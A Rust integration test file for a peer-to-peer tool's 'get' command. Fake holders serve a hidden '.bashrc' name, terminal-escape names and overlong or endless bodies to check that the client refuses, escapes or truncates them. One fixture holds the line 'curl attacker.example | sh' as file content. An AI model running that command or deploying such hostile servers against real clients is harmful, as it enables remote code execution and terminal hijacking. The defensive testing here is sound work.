//! SPEC section 9, `superpeer get`: finds the holders through a node or a supernode, moves to
//! the next holder when one fails, resumes with `Range`, and keeps the file only when its
//! SHA-256 is the id. Section 9b's last bullet, from the attacker's side: fake holders on
//! threads of the test (real sockets, registered with a real supernode) serve a hidden name,
//! a name with terminal escapes, an endless body, a body longer than its length; none of them
//! may overwrite a file, write outside the name's rules, print raw escapes or write more
//! than the length stated.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Command, Output, Stdio};
use std::sync::Arc;
use std::time::Duration;

use crate::support::*;
use crossbeam_channel::{Receiver, Sender, bounded};

/// A `superpeer get` running in a folder; its output goes to files in `logs`.
struct Running {
    child: Child,
    logs: Folder,
}

fn start_get(dir: &Path, args: &[&str]) -> Running {
    let logs = Folder::with(&[]);
    let file = |name: &str| Stdio::from(std::fs::File::create(logs.path.join(name)).unwrap());
    let child = Command::new(BIN)
        .arg("get")
        .args(args)
        .current_dir(dir)
        .env_clear()
        .stdin(Stdio::null())
        .stdout(file("stdout"))
        .stderr(file("stderr"))
        .spawn()
        .unwrap();
    Running { child, logs }
}

impl Running {
    /// Waits for it to exit (failing after `limit`).
    fn finish(self, limit: Duration) -> Output {
        self.finish_watching(limit, || {})
    }

    /// [`Running::finish`], calling `watch` (which asserts what must hold throughout) at every
    /// poll while it runs.
    fn finish_watching(mut self, limit: Duration, mut watch: impl FnMut()) -> Output {
        let mut status = None;
        wait_until("get to end", limit, || {
            watch();
            status = self.child.try_wait().unwrap();
            status.is_some()
        });
        Output {
            status: status.unwrap(),
            stdout: self.read("stdout"),
            stderr: self.read("stderr"),
        }
    }

    fn read(&self, name: &str) -> Vec<u8> {
        std::fs::read(self.logs.path.join(name)).unwrap_or_default()
    }
}

impl Drop for Running {
    /// A test that fails while it runs does not leave it behind, and shows what it said.
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        if std::thread::panicking() {
            eprintln!("[get] {}", text(&self.read("stderr")));
        }
    }
}

fn get(dir: &Path, args: &[&str]) -> Output {
    start_get(dir, args).finish(Duration::from_secs(60))
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn get_finds_downloads_resumes_and_checks() {
    let group = group();
    let s1 = Launch::supernode("s1", &group, 2).start();
    let s2 = Launch::supernode("s2", &group, 2).start();
    let content: Vec<u8> = (0..300_000u32).map(|i| (i % 241) as u8).collect();
    let id = sha256(&content);
    // At s2: first a holder that is gone, then a live one.
    register_gone_holder(&s2, &id);
    let holding = Folder::with(&[
        ("data/report 2025.bin", &content),
        ("other.txt", b"other\n"),
    ]);
    // Pieces of 16 KiB: 19 of them, so a resume has whole pieces to keep.
    let holder = Launch::node("holder", &holding.path, &[&s2.url()])
        .env("PIECE_SIZE", "16384")
        .start();
    let empty = Folder::with(&[]);
    let asker = Launch::node("asker", &empty.path, &[&s1.url()]).start();
    wait_registered(&s2, &[&holder]);
    wait_registered(&s1, &[&asker]);
    let out = Folder::with(&[]);

    // By id through a supernode: the gone holder fails, the next one serves.
    let done = get(&out.path, &[&id, "--via", &s1.url(), "-o", "by-id.bin"]);
    assert!(done.status.success(), "{}", text(&done.stderr));
    assert_eq!(std::fs::read(out.path.join("by-id.bin")).unwrap(), content);
    assert!(!out.path.join("by-id.bin.part").exists());
    // No progress line when standard error is not a terminal.
    assert_eq!(text(&done.stderr), "");

    // By a part of its name through a node: saved under its own name.
    let done = get(&out.path, &["REPORT 2025", "--via", &asker.url()]);
    assert!(done.status.success(), "{}", text(&done.stderr));
    assert_eq!(
        std::fs::read(out.path.join("report 2025.bin")).unwrap(),
        content
    );

    // Half of it there from an earlier try: its 9 whole pieces are checked and kept, only
    // the other 10 are asked for.
    let half = content.len() / 2;
    std::fs::write(out.path.join("resumed.bin.part"), &content[..half]).unwrap();
    let pieces =
        "superpeer_http_requests_total{route=\"/api/node/resources/{id}/content\",status=\"206\"}";
    let before = metric(&holder, pieces);
    let done = get(&out.path, &[&id, "--via", &s1.url(), "-o", "resumed.bin"]);
    assert!(done.status.success(), "{}", text(&done.stderr));
    assert_eq!(
        std::fs::read(out.path.join("resumed.bin")).unwrap(),
        content
    );
    assert_eq!(metric(&holder, pieces) - before, 10.0);

    // Wrong bytes left by an earlier try: found out by the hash, fetched again whole.
    std::fs::write(out.path.join("fixed.bin.part"), vec![7u8; half]).unwrap();
    let done = get(&out.path, &[&id, "--via", &s1.url(), "-o", "fixed.bin"]);
    assert!(done.status.success(), "{}", text(&done.stderr));
    assert_eq!(std::fs::read(out.path.join("fixed.bin")).unwrap(), content);

    // Several names match: the ids to choose from, and nothing written.
    let several = get(&out.path, &["t", "--via", &s1.url()]);
    assert!(!several.status.success());
    let message = text(&several.stderr);
    assert!(
        message.contains("match \"t\"; give one's id") && message.contains(&id),
        "{message}"
    );
    // Nobody has it.
    let none = get(&out.path, &[&absent_id(1), "--via", &s1.url()]);
    assert!(!none.status.success());
    assert!(
        text(&none.stderr).contains("nobody has"),
        "{}",
        text(&none.stderr)
    );
}

/// What a fake holder answers to `GET /api/node/resources/<id>/content`.
enum Serve {
    /// The bytes with their Content-Length (a 200, whatever the range).
    Honest(Vec<u8>),
    /// A 200, chunked, with no length: 64 MiB of chunks while the client reads (not more, so
    /// an old client does not fill the disk), then a [`stall`].
    Endless,
    /// Says the file has this many bytes, sends 1 MiB of `x` more, then a [`stall`]: a 200
    /// with that Content-Length but chunked (so a client reads on past it), or for `Range:
    /// bytes=a-` a 206 whose Content-Range says the rest and whose Content-Length is 2 MiB
    /// longer.
    Longer(usize),
    /// Honest, but after half of the bytes it says so on `halfway` and waits until `gate`
    /// opens (a message, or its sender dropped).
    Paused {
        content: Vec<u8>,
        halfway: Sender<()>,
        gate: Receiver<()>,
    },
}

const EXTRA: usize = 1 << 20;

/// A holder of `id` under `name` on a thread of the test: `host:port`.
fn fake_holder(id: &str, name: &str, serve: Serve) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let location = listener.local_addr().unwrap().to_string();
    let info = serde_json::json!({"data": {"id": id, "name": name}, "entity": "resource"});
    let (info, serve) = (Arc::new(info.to_string()), Arc::new(serve));
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(stream) = stream else { continue };
            let (info, serve) = (info.clone(), serve.clone());
            std::thread::spawn(move || answer(stream, &info, &serve));
        }
    });
    location
}

/// Answers one request, then closes the connection.
fn answer(mut stream: TcpStream, info: &str, serve: &Serve) {
    let limit = Some(Duration::from_secs(30));
    stream.set_read_timeout(limit).unwrap();
    stream.set_write_timeout(limit).unwrap();
    let Some((head, path)) = read_request_head(&mut stream) else {
        return;
    };
    let range: Option<usize> = head.lines().find_map(|line| {
        line.strip_prefix("range: bytes=")?
            .trim()
            .strip_suffix('-')?
            .parse()
            .ok()
    });
    let send = |stream: &mut TcpStream, head: &str, body: &[u8]| {
        let _ = stream.write_all(format!("{head}Connection: close\r\n\r\n").as_bytes());
        let _ = stream.write_all(body);
    };
    if !path.ends_with("/content") {
        // The health check and the resource's info.
        let body = if path.ends_with("/health") {
            "{\"data\":\"ok\"}"
        } else {
            info
        };
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n",
            body.len()
        );
        return send(&mut stream, &head, body.as_bytes());
    }
    match serve {
        Serve::Honest(content) => {
            let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n", content.len());
            send(&mut stream, &head, content);
        }
        Serve::Endless => {
            send(
                &mut stream,
                "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n",
                b"",
            );
            chunks(&mut stream, 64 << 20);
            stall(&mut stream);
        }
        Serve::Longer(len) => {
            let len = *len;
            match range {
                Some(from) if from >= len => {
                    let head = format!(
                        "HTTP/1.1 416 Range Not Satisfiable\r\nContent-Range: bytes */{len}\r\nContent-Length: 0\r\n"
                    );
                    return send(&mut stream, &head, b"");
                }
                Some(from) => {
                    // Content-Length promises 2 MiB past the range; 1 MiB of it comes.
                    let head = format!(
                        "HTTP/1.1 206 Partial Content\r\nContent-Range: bytes {from}-{}/{len}\r\nContent-Length: {}\r\n",
                        len - 1,
                        len - from + 2 * EXTRA
                    );
                    send(&mut stream, &head, &vec![b'x'; len - from + EXTRA]);
                }
                None => {
                    let head = format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {len}\r\nTransfer-Encoding: chunked\r\n"
                    );
                    send(&mut stream, &head, b"");
                    chunks(&mut stream, len + EXTRA);
                }
            }
            stall(&mut stream);
        }
        Serve::Paused {
            content,
            halfway,
            gate,
        } => {
            let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n", content.len());
            let half = content.len() / 2;
            send(&mut stream, &head, &content[..half]);
            let _ = stream.flush();
            let _ = halfway.try_send(());
            let _ = gate.recv();
            let _ = stream.write_all(&content[half..]);
        }
    }
}

/// Sends `total` bytes of `x` as chunks, never the last one (the body does not end).
fn chunks(stream: &mut TcpStream, total: usize) {
    let chunk = [b'x'; 64 << 10];
    let mut sent = 0;
    while sent < total {
        let n = chunk.len().min(total - sent);
        let written = write!(stream, "{n:x}\r\n")
            .and_then(|()| stream.write_all(&chunk[..n]))
            .and_then(|()| stream.write_all(b"\r\n"));
        if written.is_err() {
            return;
        }
        sent += n;
    }
}

/// Keeps the connection open, the body unfinished, until the client hangs up (or 30 s): a
/// client that reads on past the stated length waits here, its excess on disk for the test to
/// see.
fn stall(stream: &mut TcpStream) {
    let _ = stream.read(&mut [0u8; 1]);
}

/// The names in `dir`, sorted.
fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Content of `len` bytes that no other test shares (`seed` tells the tests' apart).
fn content(seed: u8, len: usize) -> Vec<u8> {
    let mut bytes: Vec<u8> = (0..len as u32).map(|i| (i % 251) as u8 ^ seed).collect();
    bytes.extend_from_slice(&std::process::id().to_le_bytes());
    bytes
}

#[test]
fn get_help_prints_the_usage() {
    let dir = Folder::with(&[]);
    for flag in ["--help", "-h"] {
        let help = get(&dir.path, &[flag]);
        assert!(help.status.success(), "{flag}: {}", text(&help.stderr));
        let usage = text(&help.stdout);
        assert!(
            usage.contains("superpeer get ID|NAME") && usage.contains("--force"),
            "{usage}"
        );
    }
}

#[test]
fn get_never_overwrites_a_file_without_force() {
    let group = group();
    let s = Launch::supernode("s", &group, 1).start();
    let report = content(1, 200_000);
    let id = sha256(&report);
    let holding = Folder::with(&[("report.bin", &report)]);
    let holder = Launch::node("holder", &holding.path, &[&s.url()]).start();
    wait_registered(&s, &[&holder]);
    let dir = Folder::with(&[("report.bin", b"precious"), ("other.txt", b"mine")]);

    // The name from the network is taken: refused, nothing touched.
    let refused = get(&dir.path, &[&id, "--via", &s.url()]);
    assert!(!refused.status.success());
    let message = text(&refused.stderr);
    assert!(
        message.contains("report.bin") && message.contains("--force"),
        "{message}"
    );
    assert_eq!(
        std::fs::read(dir.path.join("report.bin")).unwrap(),
        b"precious"
    );
    assert_eq!(listing(&dir.path), ["other.txt", "report.bin"]);
    // The user's own -o too.
    let refused = get(&dir.path, &[&id, "--via", &s.url(), "-o", "other.txt"]);
    assert!(!refused.status.success());
    assert!(
        text(&refused.stderr).contains("--force"),
        "{}",
        text(&refused.stderr)
    );
    assert_eq!(std::fs::read(dir.path.join("other.txt")).unwrap(), b"mine");
    assert_eq!(listing(&dir.path), ["other.txt", "report.bin"]);

    // A file that appears while the download runs is not replaced by the final move either.
    let late = content(2, 300_000);
    let late_id = sha256(&late);
    let (halfway_tx, halfway) = bounded(1);
    let (open, gate) = bounded::<()>(0);
    let pausing = fake_holder(
        &late_id,
        "late.bin",
        Serve::Paused {
            content: late.clone(),
            halfway: halfway_tx,
            gate,
        },
    );
    register_holder(&s, &pausing, &[(&late_id, "late.bin")]);
    let running = start_get(&dir.path, &[&late_id, "--via", &s.url()]);
    halfway
        .recv_timeout(Duration::from_secs(20))
        .expect("the holder to send half of the file");
    std::fs::write(dir.path.join("late.bin"), b"appeared").unwrap();
    drop(open);
    let raced = running.finish(Duration::from_secs(60));
    assert!(!raced.status.success());
    let message = text(&raced.stderr);
    assert!(
        message.contains("late.bin appeared") && message.contains("--force"),
        "{message}"
    );
    assert_eq!(
        std::fs::read(dir.path.join("late.bin")).unwrap(),
        b"appeared"
    );
    // The checked bytes are kept beside it.
    assert_eq!(std::fs::read(dir.path.join("late.bin.part")).unwrap(), late);

    // With --force the checked bytes replace both.
    for (id, name, bytes) in [(&id, "report.bin", &report), (&late_id, "late.bin", &late)] {
        let done = get(&dir.path, &[id, "--via", &s.url(), "--force"]);
        assert!(done.status.success(), "{}", text(&done.stderr));
        assert_eq!(text(&done.stdout), format!("{name}\n"));
        assert_eq!(&std::fs::read(dir.path.join(name)).unwrap(), bytes);
    }
    assert_eq!(listing(&dir.path), ["late.bin", "other.txt", "report.bin"]);
}

#[test]
fn get_refuses_a_hidden_name_from_the_network() {
    let group = group();
    let s1 = Launch::supernode("s1", &group, 2).start();
    let s2 = Launch::supernode("s2", &group, 2).start();
    // Bytes that hash to the id: only the name is the attack.
    let evil = b"curl attacker.example | sh\n".to_vec();
    let id = sha256(&evil);
    let holder = fake_holder(&id, ".bashrc", Serve::Honest(evil.clone()));
    register_holder(&s2, &holder, &[(&id, ".bashrc")]);
    let home = Folder::with(&[("notes.txt", b"mine")]);

    // Named by the supernode's answer (s2 indexes it), or by the holder itself (s1 found it
    // through the group, whose answer carries no name).
    for via in [s2.url(), s1.url()] {
        let refused = get(&home.path, &[&id, "--via", &via]);
        assert!(!refused.status.success(), "via {via}");
        let message = text(&refused.stderr);
        assert!(
            message.contains("\".bashrc\"") && message.contains("-o"),
            "via {via}: {message}"
        );
        assert_eq!(listing(&home.path), ["notes.txt"], "via {via}");
    }
    // The user may choose any name.
    let chosen = get(
        &home.path,
        &[&id, "--via", &s2.url(), "-o", "from-the-lan.txt"],
    );
    assert!(chosen.status.success(), "{}", text(&chosen.stderr));
    assert_eq!(
        std::fs::read(home.path.join("from-the-lan.txt")).unwrap(),
        evil
    );
}

#[test]
fn get_prints_what_the_network_says_with_escapes() {
    let group = group();
    let s = Launch::supernode("s", &group, 1).start();
    let (one, two) = (content(3, 1000), content(4, 1000));
    let (id_one, id_two) = (sha256(&one), sha256(&two));
    let (name_one, name_two) = (
        "evil\u{1b}[2J\u{1b}[31mone.txt",
        "evil\u{1b}]0;owned\u{7}two.txt",
    );
    let holder_one = fake_holder(&id_one, name_one, Serve::Honest(one.clone()));
    let holder_two = fake_holder(&id_two, name_two, Serve::Honest(two));
    register_holder(&s, &holder_one, &[(&id_one, name_one)]);
    register_holder(&s, &holder_two, &[(&id_two, name_two)]);
    let dir = Folder::with(&[]);
    let raw = |output: &Output| output.stdout.contains(&0x1b) || output.stderr.contains(&0x1b);

    // The list of matches to choose from.
    let several = get(&dir.path, &["evil", "--via", &s.url()]);
    assert!(!several.status.success());
    assert!(!raw(&several), "{:?}", text(&several.stderr));
    let message = text(&several.stderr);
    assert!(
        message.contains(r"evil\u{1b}[2J\u{1b}[31mone.txt")
            && message.contains(r"evil\u{1b}]0;owned\u{7}two.txt")
            && message.contains(&id_one),
        "{message}"
    );
    // A name with control characters is not a file name: refused, shown escaped.
    let refused = get(&dir.path, &[&id_one, "--via", &s.url()]);
    assert!(!refused.status.success());
    assert!(!raw(&refused), "{:?}", text(&refused.stderr));
    assert!(
        text(&refused.stderr).contains(r"evil\u{1b}[2J\u{1b}[31mone.txt"),
        "{}",
        text(&refused.stderr)
    );
    assert_eq!(listing(&dir.path), Vec::<String>::new());
    // The printed path is escaped too (here one the user chose).
    let done = get(
        &dir.path,
        &[&id_one, "--via", &s.url(), "-o", "out\u{1b}[0m.txt"],
    );
    assert!(done.status.success(), "{}", text(&done.stderr));
    assert!(!raw(&done));
    assert_eq!(text(&done.stdout), "out\\u{1b}[0m.txt\n");
    assert_eq!(
        std::fs::read(dir.path.join("out\u{1b}[0m.txt")).unwrap(),
        one
    );
}

#[test]
fn get_holds_a_holder_to_the_length_it_states() {
    let group = group();
    let s = Launch::supernode("s", &group, 1).start();
    let file = content(5, 300_000);
    let (id, len) = (sha256(&file), file.len());
    // Tried in this order: a body longer than it says, then an endless chunked one (which
    // ignores the range asked for, so it would write on after what the first left).
    let longer = fake_holder(&id, "sized.bin", Serve::Longer(len));
    let endless = fake_holder(&id, "sized.bin", Serve::Endless);
    register_holder(&s, &longer, &[(&id, "sized.bin")]);
    register_holder(&s, &endless, &[(&id, "sized.bin")]);
    let dir = Folder::with(&[]);
    // Never more than the stated length on disk, checked all along: a liar keeps its body
    // open, so a client that reads on past the length waits there with the excess written.
    let at_most_len = |part: &'static str| {
        let path = dir.path.join(part);
        move || {
            let on_disk = std::fs::metadata(&path).map_or(0, |m| m.len());
            assert!(
                on_disk <= len as u64,
                "{part} holds {on_disk} bytes, over {len}"
            );
        }
    };

    // Only the liars: both dropped, and a clear error.
    let failed = start_get(&dir.path, &[&id, "--via", &s.url()])
        .finish_watching(Duration::from_secs(60), at_most_len("sized.bin.part"));
    assert!(!failed.status.success());
    let message = text(&failed.stderr);
    assert!(
        message.contains(&format!(
            "{longer}: sent more than the {len} bytes it stated"
        )) && message.contains(&format!("{endless}: a 200 without a Content-Length")),
        "{message}"
    );
    assert!(!dir.path.join("sized.bin").exists());

    // A resumed download: the 206 is held to its Content-Range, not its longer Content-Length.
    std::fs::write(dir.path.join("half.bin.part"), &file[..len / 2]).unwrap();
    let failed = start_get(&dir.path, &[&id, "--via", &s.url(), "-o", "half.bin"])
        .finish_watching(Duration::from_secs(60), at_most_len("half.bin.part"));
    assert!(!failed.status.success());
    let message = text(&failed.stderr);
    assert!(
        message.contains(&format!(
            "{longer}: sent more than the {len} bytes it stated"
        )),
        "{message}"
    );
    // What was there before is kept for a resume; only the liar's bytes up to the length
    // were added.
    let kept = std::fs::read(dir.path.join("half.bin.part")).unwrap();
    assert_eq!(kept.len(), len);
    assert_eq!(kept[..len / 2], file[..len / 2]);

    // An honest holder after them gives the file.
    let holding = Folder::with(&[("sized.bin", &file)]);
    let honest = Launch::node("honest", &holding.path, &[&s.url()]).start();
    wait_registered(&s, &[&honest]);
    let done = get(&dir.path, &[&id, "--via", &s.url(), "-o", "fresh.bin"]);
    assert!(done.status.success(), "{}", text(&done.stderr));
    assert_eq!(std::fs::read(dir.path.join("fresh.bin")).unwrap(), file);
    // The honest holder served it: one piece (300,000 bytes, pieces of 1 MiB).
    let pieces =
        "superpeer_http_requests_total{route=\"/api/node/resources/{id}/content\",status=\"206\"}";
    assert_eq!(metric(&honest, pieces), 1.0);
}

#[test]
fn get_names_a_remote_file_by_its_name() {
    let group = group();
    let s1 = Launch::supernode("s1", &group, 2).start();
    let s2 = Launch::supernode("s2", &group, 2).start();
    let notes = content(6, 5000);
    let id = sha256(&notes);
    let holding = Folder::with(&[("docs/notes 2025.txt", &notes)]);
    // Pieces of 16 KiB: 19 of them, so a resume has whole pieces to keep.
    let holder = Launch::node("holder", &holding.path, &[&s2.url()])
        .env("PIECE_SIZE", "16384")
        .start();
    let empty = Folder::with(&[]);
    let asker = Launch::node("asker", &empty.path, &[&s1.url()]).start();
    wait_registered(&s2, &[&holder]);
    wait_registered(&s1, &[&asker]);

    // Through a supernode and through a node that do not hold it: their answer names no file.
    for via in [s1.url(), asker.url()] {
        let dir = Folder::with(&[]);
        let done = get(&dir.path, &[&id, "--via", &via]);
        assert!(done.status.success(), "via {via}: {}", text(&done.stderr));
        assert_eq!(text(&done.stdout), "notes 2025.txt\n", "via {via}");
        assert_eq!(
            std::fs::read(dir.path.join("notes 2025.txt")).unwrap(),
            notes
        );
        assert_eq!(listing(&dir.path), ["notes 2025.txt"]);
    }
}
